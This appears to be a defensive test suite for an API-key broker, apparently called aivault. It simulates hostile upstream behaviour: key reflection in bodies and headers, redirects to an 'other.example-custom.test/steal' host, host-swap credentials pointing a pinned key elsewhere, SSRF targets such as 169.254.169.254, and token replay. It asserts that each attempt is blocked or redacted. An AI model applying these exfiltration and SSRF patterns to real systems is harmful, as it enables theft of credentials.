/**
 * Attack catalog, part 3: attacks that go through the upstream side — redirects, a provider that
 * reflects the key (chunked, compressed, in headers), hostile response headers, host swap through
 * custom entries (CLI and edited vault files), SSRF through dev overrides, and token misuse.
 */
import { test, before, after, beforeEach } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { startFakeProvider, reply, type FakeProvider, type Reply } from '../helpers/fake-provider.js';
import { runCli } from '../helpers/cli.js';
import { attack, assertNoLeak, assertProviderSawSecretOnlyAt, errorCode, makeLab, sentinel, type Lab } from './helpers/harness.js';
import { tempDir } from '../helpers/tmp.js';

let provider: FakeProvider;
let lab: Lab;

before(async () => {
  provider = await startFakeProvider();
  // the OpenAI key is reflected into a header NAME below, so it holds only header-name bytes
  lab = await makeLab(provider, { OPENAI_API_KEY: sentinel('openai', undefined, { headerName: true }), GEMINI_API_KEY: sentinel('gemini') });
});
after(async () => {
  lab.cleanup();
  await provider.close();
});
beforeEach(() => provider.reset());

type A = Record<string, unknown> & { name: string };
const post = (name: string, target = '/v/openai/v1/chat/completions'): A => ({ name, method: 'POST', target, body: '{}' });
const bearer = (req: { headers: Record<string, unknown> }) => String(req.headers.authorization ?? '').replace(/^Bearer /, '');
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Echo `value` compressed with `enc`, written a few bytes at a time. */
function compressedEcho(enc: 'gzip' | 'deflate' | 'br', pieceSize: number): Reply {
  return async (req, res) => {
    const v = bearer(req);
    const raw = Buffer.from(`{"error":"invalid key ${v}","again":"${v}","b64":"${Buffer.from(v).toString('base64')}"}`);
    const z = enc === 'gzip' ? zlib.gzipSync(raw) : enc === 'deflate' ? zlib.deflateSync(raw) : zlib.brotliCompressSync(raw);
    res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': enc });
    for (let i = 0; i < z.length; i += pieceSize) {
      res.write(z.subarray(i, i + pieceSize));
      await sleep(1);
    }
    res.end();
  };
}

test('a provider that reflects the key: body (split into 1..7-byte chunks), SSE, gzip/deflate/br, headers, header names, status text, Location', async () => {
  let n = 0;
  provider.on('POST', '/v1/chat/completions', async (req, res) => {
    const i = n++;
    const v = bearer(req);
    if (i < 7) return reply.reflect(() => v, { chunkSize: i + 1, headerNames: ['x-echo-secret', 'www-authenticate'] })(req, res);
    if (i === 7) return compressedEcho('gzip', 5)(req, res);
    if (i === 8) return compressedEcho('deflate', 3)(req, res);
    if (i === 9) return compressedEcho('br', 2)(req, res);
    if (i === 10) return reply.sse([`data: {"k":"${v.slice(0, 9)}`, `${v.slice(9)}"}\n\n`, { k: v }], { delayMs: 5 })(req, res);
    if (i === 11) {
      res.writeHead(401, `Unauthorized ${v}`, { [`x-${v}`]: 'name-reflection', 'x-split': [v, `Bearer ${v}`], 'content-type': 'text/plain' });
      return void res.end(`Bearer ${v}`);
    }
    if (i === 12) {
      res.writeHead(302, { location: `https://other.example-custom.test/cb?key=${encodeURIComponent(v)}`, 'content-length': 0 });
      return void res.end();
    }
    res.writeHead(200, { 'content-type': 'text/plain', trailer: 'x-trailer' });
    res.write('trailer follows');
    res.addTrailers({ 'x-trailer': v });
    res.end();
  });
  const attempts = Array.from({ length: 14 }, (_, i) => post(`reflect-${i}`));
  const r = await attack(lab, { allow: ['openai/chat-completions'], plan: { attempts } });
  assert.equal(r.code, 0, r.stderr);
  assert.equal(provider.requests.length, 14);
  for (let i = 0; i < 7; i++) assert.match(r.result(`reflect-${i}`).body, /^before \[REDACTED\] middle \[REDACTED\] after$/, `chunk size ${i + 1}`);
  for (const i of [7, 8, 9]) assert.match(r.result(`reflect-${i}`).body, /invalid key \[REDACTED\]/, `compressed ${i}`);
  assert.equal(r.result('reflect-11').status, 401);
  assert.equal(r.result('reflect-12').status, 302, 'the redirect is returned, not followed');
  assertNoLeak(r.observed, lab.secrets);
});

test('a redirect to another host (or another path) is never followed with the credential', async () => {
  provider.on('POST', '/v1/chat/completions', reply.redirect('https://other.example-custom.test/steal', 307));
  provider.on('GET', '/v1beta/models', reply.redirect('https://api.openai.com/v1/models', 302));
  const r = await attack(lab, { allow: ['openai/chat-completions', 'gemini/models'], plan: { attempts: [post('to-other-host'), { name: 'to-other-provider', method: 'GET', target: '/v/gemini/v1beta/models' }] } });
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.result('to-other-host').status, 307);
  assert.match(r.result('to-other-host').headers, /location: https:\/\/other\.example-custom\.test\/steal/i);
  assert.equal(r.result('to-other-provider').status, 302);
  assert.deepEqual(
    provider.requests.map((q) => `${q.servername} ${q.method} ${q.path}`),
    ['api.openai.com POST /v1/chat/completions', 'generativelanguage.googleapis.com GET /v1beta/models'],
  );
  assertProviderSawSecretOnlyAt(provider, { a: lab.secrets.OPENAI_API_KEY! }, ['api.openai.com']);
  assertNoLeak(r.observed, lab.secrets);
});

test('auth-class and hop-by-hop response headers are stripped', async () => {
  provider.on('POST', '/v1/chat/completions', (_req, res) => {
    res.writeHead(200, {
      'content-type': 'application/json',
      'set-cookie': ['sid=upstream-session; Secure', 'other=1'],
      'set-cookie2': 'legacy=1',
      authorization: 'Bearer upstream-authz',
      'proxy-authorization': 'Basic dXBzdHJlYW0=',
      'x-api-key': 'upstream-key',
      'api-key': 'upstream-key-2',
      cookie: 'c=1',
      'x-aivault-error': 'forged',
      'alt-svc': 'h3=":443"',
      'x-harmless': 'kept',
    });
    res.end('{}');
  });
  const r = await attack(lab, { allow: ['openai/chat-completions'], plan: { attempts: [post('headers')] } });
  const h = r.result('headers');
  assert.equal(h.status, 200);
  assert.match(h.headers, /\r\nx-harmless: kept/i, 'ordinary headers pass');
  for (const name of ['set-cookie', 'set-cookie2', 'authorization', 'proxy-authorization', 'x-api-key', 'api-key', 'cookie', 'x-aivault-error', 'alt-svc'])
    assert.doesNotMatch(h.headers, new RegExp(`\\r\\n${name}:`, 'i'), name);
  assert.doesNotMatch(h.raw, /upstream-session|upstream-authz|upstream-key|forged/);
});

test('host swap: CLI refuses pointing the pinned secret (or a built-in provider capability) at another host', async () => {
  const cred = await runCli(['credential', 'create', 'evil', '--provider', 'openai', '--secret', 'OPENAI_API_KEY', '--host', 'other.example-custom.test'], { env: lab.env() });
  assert.notEqual(cred.code, 0, cred.stderr);
  const cap = await runCli(
    ['capability', 'create', 'openai/steal', '--provider', 'openai', '--host', 'other.example-custom.test', '--method', 'POST', '--path-prefix', '/'],
    { env: lab.env() },
  );
  assert.notEqual(cap.code, 0, cap.stderr);
  // a custom provider borrowing the pinned secret: creation may succeed, use must not
  const steal = await runCli(
    ['credential', 'create', 'stealer', '--provider', 'thief', '--secret', 'OPENAI_API_KEY', '--host', 'other.example-custom.test', '--auth', 'header', '--header-name', 'x-key', '--value-template', '{{secret}}'],
    { env: lab.env() },
  );
  const stealCap = await runCli(['capability', 'create', 'thief/all', '--provider', 'thief', '--host', 'other.example-custom.test', '--method', 'POST', '--path-prefix', '/'], { env: lab.env() });
  if (steal.code === 0 && stealCap.code === 0) {
    const r = await attack(lab, { allow: ['thief/all'], plan: { attempts: [post('borrow', '/v/thief/x'), post('borrow-cred', '/v/stealer/x')] } });
    if (r.code === 0) for (const n of ['borrow', 'borrow-cred']) assert.ok((r.result(n).status ?? 0) >= 400, n);
    else assert.equal(r.code, 125, 'refused at launch');
    assertNoLeak(r.observed, lab.secrets);
  }
  assert.equal(provider.requests.filter((q) => q.servername === 'other.example-custom.test').length, 0, 'nothing went to the other host');
  assertProviderSawSecretOnlyAt(provider, lab.secrets, ['api.openai.com']);
  await runCli(['credential', 'delete', 'stealer'], { env: lab.env() });
  await runCli(['capability', 'delete', 'thief/all'], { env: lab.env() });
});

test('host swap with the vault files edited on disk (credentials.json / capabilities.json): the pinned secret still only goes to api.openai.com', async () => {
  const credFile = path.join(lab.dir, 'credentials.json');
  const capFile = path.join(lab.dir, 'capabilities.json');
  const before = { cred: fs.existsSync(credFile) ? fs.readFileSync(credFile) : undefined, cap: fs.existsSync(capFile) ? fs.readFileSync(capFile) : undefined };
  const now = new Date().toISOString();
  const auth = { strategy: 'header', header: 'authorization', template: 'Bearer {{secret}}' };
  fs.writeFileSync(
    credFile,
    JSON.stringify({
      v: 1,
      credentials: [
        { id: 'evil', provider: 'openai', secrets: { secret: 'OPENAI_API_KEY' }, auth, hosts: ['other.example-custom.test', 'api.openai.com'], createdAt: now },
        { id: 'evil2', provider: 'thief', secrets: { secret: 'OPENAI_API_KEY' }, auth, hosts: ['other.example-custom.test'], createdAt: now },
      ],
    }),
  );
  fs.writeFileSync(
    capFile,
    JSON.stringify({
      v: 1,
      capabilities: [
        { id: 'openai/steal', provider: 'openai', methods: ['POST'], pathPrefixes: ['/'], hosts: ['other.example-custom.test'], createdAt: now },
        { id: 'thief/all', provider: 'thief', methods: ['POST'], pathPrefixes: ['/'], hosts: ['other.example-custom.test'], createdAt: now },
      ],
    }),
  );
  try {
    const a = await attack(lab, {
      allow: ['openai/steal', 'openai/chat-completions'],
      plan: {
        attempts: [
          post('via-builtin-cred', '/v/openai/steal'),
          post('via-evil-cred', '/v/evil/v1/chat/completions'),
          post('via-evil-cred-steal', '/v/evil/anything'),
          { name: 'env-evil', method: 'POST', target: '/aivault/proxy', body: JSON.stringify({ capability: 'openai/steal', credential: 'evil', request: { method: 'POST', path: '/x' } }) },
        ],
      },
    });
    if (a.code === 0) {
      for (const n of ['via-builtin-cred', 'via-evil-cred-steal', 'env-evil']) {
        const res = a.result(n);
        assert.ok(res.status >= 400, `${n}: ${res.raw.slice(0, 200)}`);
      }
      assertNoLeak(a.observed, lab.secrets);
    } else assert.equal(a.code, 125, a.stderr);
    const b = await attack(lab, { allow: ['thief/all'], plan: { attempts: [post('thief', '/v/thief/x'), post('thief-cred', '/v/evil2/x')] } });
    if (b.code === 0) for (const n of ['thief', 'thief-cred']) assert.ok(b.result(n).status >= 400, n);
    else assert.equal(b.code, 125, b.stderr);
    assertNoLeak(b.observed, lab.secrets);
    assert.equal(provider.requests.filter((q) => q.servername !== 'api.openai.com').length, 0, 'nothing went to another host');
    assertProviderSawSecretOnlyAt(provider, lab.secrets, ['api.openai.com']);
  } finally {
    if (before.cred) fs.writeFileSync(credFile, before.cred);
    else fs.rmSync(credFile, { force: true });
    if (before.cap) fs.writeFileSync(capFile, before.cap);
    else fs.rmSync(capFile, { force: true });
  }
});

test('SSRF: IP-literal hosts are refused at definition; dev overrides only accept loopback and never reach the child', async () => {
  for (const host of ['169.254.169.254', '127.0.0.1', '10.0.0.1', '[::1]', '2130706433', '0x7f.1', 'localhost', 'api.openai.com.']) {
    const r = await runCli(['capability', 'create', 'ssrf/x', '--provider', 'ssrf', '--host', host, '--method', 'GET', '--path-prefix', '/'], { env: lab.env() });
    assert.notEqual(r.code, 0, `${host} accepted: ${r.stdout}`);
  }
  for (const target of ['169.254.169.254:443', '10.0.0.1:443', '192.168.0.1:443', '[fd00::1]:443', '0.0.0.0:443', os.hostname() + ':443']) {
    const r = await attack(lab, { allow: ['openai/chat-completions'], plan: { attempts: [post('x')] }, env: { AIVAULT_DEV_RESOLVE: `api.openai.com=${target}` } });
    assert.equal(r.code, 125, `${target}: ${r.stderr}`);
    assert.equal(r.seen.results.length, 0, 'the child never started');
  }
  assert.equal(provider.requests.length, 0);
});

test('tokens: not granted capability, other provider, replay after the run, token of another run', async () => {
  const work = tempDir('aivault-sec-tok-');
  const aFile = path.join(work, 'a.json');
  const release = path.join(work, 'release');
  try {
    // run A: publishes its token, waits until released
    const runA = attack(lab, { allow: ['openai/chat-completions'], plan: { tokenFile: aFile, waitFor: release, attempts: [post('a-own')] } });
    // run B: uses A's token against B's own broker, plus grant violations with its own token
    const runB = attack(lab, {
      allow: ['openai/chat-completions', 'gemini/models'],
      plan: {
        waitFor: aFile,
        attempts: [
          { name: 'not-granted', method: 'GET', target: '/v/openai/v1/models' },
          { name: 'other-provider', method: 'POST', target: '/v/anthropic/v1/messages', body: '{}' },
          { name: 'env-not-granted', method: 'POST', target: '/aivault/proxy', body: JSON.stringify({ capability: 'openai/models', request: { method: 'GET', path: '/v1/models' } }) },
          { name: 'env-wrong-cred', method: 'POST', target: '/aivault/proxy', body: JSON.stringify({ capability: 'openai/chat-completions', credential: 'gemini', request: { method: 'POST', path: '/v1/chat/completions' } }) },
          { name: 'no-token', method: 'POST', target: '/v/openai/v1/chat/completions', body: '{}', noAuth: true },
          { name: 'b64-token', method: 'POST', target: '/v/openai/v1/chat/completions', body: '{}', noAuth: true, headers: [['authorization', 'Bearer {{B64TOKEN}}']] },
        ],
      },
    });
    const runB2 = attack(lab, { allow: ['openai/chat-completions'], plan: { waitFor: aFile, foreignTokenFile: aFile, attempts: [post('foreign')] } });
    const [b, b2] = await Promise.all([runB, runB2]);
    const aInfo = JSON.parse(fs.readFileSync(aFile, 'utf8')) as { token: string; baseUrl: string };
    fs.writeFileSync(release, '');
    const a = await runA;
    assert.equal(a.result('a-own').status, 200);
    assert.equal(errorCode(b2.result('foreign').headers), 'token_invalid', 'a token of another run is not valid here');
    assert.equal(errorCode(b.result('not-granted').headers), 'capability_not_granted');
    assert.equal(errorCode(b.result('other-provider').headers), 'capability_not_granted');
    assert.equal(errorCode(b.result('env-not-granted').headers), 'capability_not_granted');
    assert.equal(errorCode(b.result('env-wrong-cred').headers), 'policy_violation');
    assert.equal(errorCode(b.result('no-token').headers), 'token_missing');
    assert.equal(errorCode(b.result('b64-token').headers), 'token_invalid');
    // replay after the run: the broker died with the run
    const port = Number(new URL(aInfo.baseUrl).port);
    const replay = await new Promise<string>((resolve) => {
      const s = net.connect(port, '127.0.0.1');
      s.on('connect', () => {
        s.end(`POST /v/openai/v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nAuthorization: Bearer ${aInfo.token}\r\nContent-Length: 0\r\n\r\n`);
        s.once('data', (d) => resolve(String(d).split('\r\n')[0]!));
      });
      s.on('error', (e: NodeJS.ErrnoException) => resolve(e.code ?? 'error'));
    });
    assert.equal(replay, 'ECONNREFUSED');
    assert.deepEqual(provider.requests.map((q) => q.path), ['/v1/chat/completions'], 'only run A’s own request reached the provider');
    for (const r of [a, b, b2]) assertNoLeak(r.observed, lab.secrets);
  } finally {
    fs.writeFileSync(release, '');
    fs.rmSync(work, { recursive: true, force: true });
  }
});
